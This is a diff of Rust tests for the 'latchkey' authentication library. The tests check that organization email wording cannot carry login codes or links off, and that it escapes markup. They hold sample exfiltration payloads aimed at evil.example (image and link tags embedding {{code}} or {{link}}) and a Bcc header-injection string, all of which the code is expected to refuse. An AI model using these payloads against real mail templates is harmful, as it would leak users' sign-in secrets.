@@ -477,7 +477,7 @@ async fn roles_grant_permissions_with_wildcards_and_deletions_cascade() {
         matches!(unknown_role, Err(Error::NotFound { .. })),
         "{unknown_role:?}"
     );
-    rbac.set_roles(ana.id, acme, &[clerk.id, auditor.id], &ctx())
+    rbac.add_member(ana.id, acme, &[clerk.id, auditor.id], &ctx())
         .await
         .unwrap();
     assert!(rbac.check(ana.id, acme, "invoices:write").await.unwrap());
@@ -971,7 +971,7 @@ async fn a_token_leaves_out_permissions_past_its_limit() {
         .await
         .unwrap();
     let ana = member(&h, "ana@example.com", acme).await;
-    rbac.set_roles(ana, acme, &[everything.id], &ctx())
+    rbac.add_member(ana, acme, &[everything.id], &ctx())
         .await
         .unwrap();
     let set = sign_in(&h, ana, Some(acme)).await;
@@ -1130,19 +1130,16 @@ async fn sending_a_link_or_code_to_an_account_is_logged() {
 }
 
 #[tokio::test]
-async fn an_organizations_own_templates_and_name_reach_its_messages() {
+async fn an_organizations_own_wording_and_name_reach_its_messages() {
     let h = harness();
     let mut settings = latchkey::OrgSettings::default();
     settings.branding.display_name = Some("Acme Login".into());
-    settings.templates = vec![latchkey::directory::TemplateOverride::new(
-        MessageKind::EmailCode,
-        Some("de"),
-        latchkey::Template::new(
-            "{{code}} ist Ihr Code für {{app_name}}",
-            "Code: {{code}}",
-            None,
-        ),
-    )];
+    settings.branding.primary_color = Some("#112233".into());
+    settings.branding.logo_url = Some("https://acme.example/logo.png".into());
+    let mut german = latchkey::directory::MessageWording::new(MessageKind::EmailCode, Some("de"));
+    german.subject = Some("Ihr Code für {{app_name}}".into());
+    german.intro = Some("Ihr Code <b>für</b> {{app_name}}:".into());
+    settings.templates = vec![german];
     let acme = org_with(&h, "acme", settings).await;
     let in_acme = ctx().with_org(acme).with_locale("de-AT");
     h.auth
@@ -1153,9 +1150,18 @@ async fn an_organizations_own_templates_and_name_reach_its_messages() {
         .unwrap();
     let mail = h.last_mail().await;
     let code = mail.message.code.clone().unwrap();
-    assert_eq!(
-        mail.subject,
-        format!("{} ist Ihr Code für Acme Login", code.secret())
+    assert_eq!(mail.subject, "Ihr Code für Acme Login");
+    assert!(mail.text.starts_with("Ihr Code <b>für</b> Acme Login:\n\n"));
+    assert!(mail.text.contains(code.secret()));
+    let html = mail.html.clone().unwrap();
+    assert!(
+        html.contains("Ihr Code &lt;b&gt;für&lt;/b&gt; Acme Login:"),
+        "{html}"
+    );
+    assert!(html.contains(&format!(">{}</p>", code.secret())), "{html}");
+    assert!(
+        html.contains(r#"<img src="https://acme.example/logo.png""#),
+        "{html}"
     );
     // Another language falls back to the built-in template, still with the org's name.
     h.clock.advance(std::time::Duration::from_secs(60));
@@ -1171,60 +1177,82 @@ async fn an_organizations_own_templates_and_name_reach_its_messages() {
             .subject
             .ends_with("is your Acme Login code")
     );
-    // A template that lacks its code is refused with the settings.
-    let mut bad = latchkey::OrgSettings::default();
-    bad.templates = vec![latchkey::directory::TemplateOverride::new(
-        MessageKind::EmailCode,
-        None,
-        latchkey::Template::new("Hi", "no code here", None),
-    )];
-    let mut new = latchkey::NewOrg::new("Bad", "bad");
-    new.settings = bad;
+}
+
+/// Checklist ADM-07, ML-05 (issue 16, item 1): an organization's wording cannot place a
+/// code or a link, hold a URL or markup that loads anything, or break the subject line.
+#[tokio::test]
+async fn an_organizations_wording_cannot_carry_a_code_or_link_off() {
+    let h = harness();
+    let refused = [
+        "{{code}}",
+        "{{ code }}",
+        "{{link}}",
+        "{{ link}}",
+        "<img src=\"https://evil.example/p\">",
+        "see www.evil.example",
+        "<style>@import 'x'</style>",
+        "background:url(x)",
+        "{{password}}",
+    ];
+    for (n, text) in refused.into_iter().enumerate() {
+        for field in 0..3 {
+            let mut wording =
+                latchkey::directory::MessageWording::new(MessageKind::MagicLink, None);
+            match field {
+                0 => wording.subject = Some(text.into()),
+                1 => wording.intro = Some(text.into()),
+                _ => wording.outro = Some(text.into()),
+            }
+            let mut new = latchkey::NewOrg::new("Bad", format!("bad-{n}-{field}"));
+            new.settings.templates = vec![wording];
+            let answer = h.auth.orgs().create(new).await;
+            assert!(
+                matches!(answer, Err(Error::InvalidInput { .. })),
+                "{text:?} in field {field}: {answer:?}"
+            );
+        }
+    }
+    let mut header = latchkey::directory::MessageWording::new(MessageKind::EmailCode, None);
+    header.subject = Some("Hi\r\nBcc: evil@example.com".into());
+    let mut new = latchkey::NewOrg::new("Bad", "bad-header");
+    new.settings.templates = vec![header];
     assert!(matches!(
         h.auth.orgs().create(new).await,
         Err(Error::InvalidInput { .. })
     ));
-    // An organization's HTML may not carry a code or link off to a third party.
-    let html = |kind, body: &str, n: usize| {
-        let mut settings = latchkey::OrgSettings::default();
-        settings.templates = vec![latchkey::directory::TemplateOverride::new(
-            kind,
-            None,
-            latchkey::Template::new("Sign in", "{{code}}{{link}}", Some(body.to_owned())),
-        )];
-        let mut new = latchkey::NewOrg::new("Html", format!("html-{n}"));
-        new.settings = settings;
-        new
-    };
-    for (kind, body) in [
-        (
-            MessageKind::EmailCode,
-            r#"<img src="https://evil.example/?c={{code}}">"#,
-        ),
-        (
-            MessageKind::MagicLink,
-            r#"<a href="https://evil.example/?l={{link}}">x</a>"#,
-        ),
-        (MessageKind::MagicLink, r#"<img src="{{link}}">"#),
-    ] {
-        let refused = h.auth.orgs().create(html(kind, body, 0)).await;
-        assert!(
-            matches!(refused, Err(Error::InvalidInput { .. })),
-            "{body}: {refused:?}"
-        );
-    }
-    for (n, (kind, body)) in [
-        (MessageKind::EmailCode, "<p>Your code: <b>{{code}}</b></p>"),
-        (
-            MessageKind::MagicLink,
-            r#"<p><a href="{{link}}">Sign in</a></p>"#,
-        ),
-    ]
-    .into_iter()
-    .enumerate()
-    {
-        h.auth.orgs().create(html(kind, body, n + 1)).await.unwrap();
-    }
+    // Markup is words: escaped in the HTML body, and the link is the engine's.
+    let mut wording = latchkey::directory::MessageWording::new(MessageKind::MagicLink, None);
+    wording.intro = Some("<a href=x>{{recipient}}</a>".into());
+    wording.button = Some("Go \"now\"".into());
+    let mut settings = latchkey::OrgSettings::default();
+    settings.templates = vec![wording];
+    let org = org_with(&h, "words", settings).await;
+    h.auth
+        .magic_links()
+        .send(
+            "ana@example.com",
+            &latchkey::LinkOptions::new(),
+            &ctx().with_org(org),
+        )
+        .await
+        .unwrap();
+    let mail = h.last_mail().await;
+    let link = mail.message.link.clone().unwrap();
+    let html = mail.html.clone().unwrap();
+    assert!(
+        html.contains("&lt;a href=x&gt;ana@example.com&lt;/a&gt;"),
+        "{html}"
+    );
+    assert!(html.contains("Go &quot;now&quot;</a>"), "{html}");
+    let link_html = link.secret().replace('&', "&amp;");
+    assert_eq!(html.matches("href=\"").count(), 1, "{html}");
+    assert!(html.contains(&format!("href=\"{link_html}\"")), "{html}");
+    // An organization's settings carrying the old free-form HTML are refused, not
+    // ignored: the administrator learns the field is gone.
+    let json = serde_json::json!({"templates": [{"kind": "email_code", "subject": "s",
+        "text": "{{code}}", "html": "<img src=\"https://evil.example/?c={{code}}\">"}]});
+    assert!(serde_json::from_value::<latchkey::OrgSettings>(json).is_err());
 }
 
 #[tokio::test]
@@ -1235,7 +1263,7 @@ async fn leaving_or_losing_an_organization_ends_the_sessions_in_it() {
     let ana = member(&h, "ana@example.com", acme).await;
     h.auth
         .rbac()
-        .set_roles(ana, globex, &[], &ctx())
+        .add_member(ana, globex, &[], &ctx())
         .await
         .unwrap();
     let in_acme = sign_in(&h, ana, Some(acme)).await;
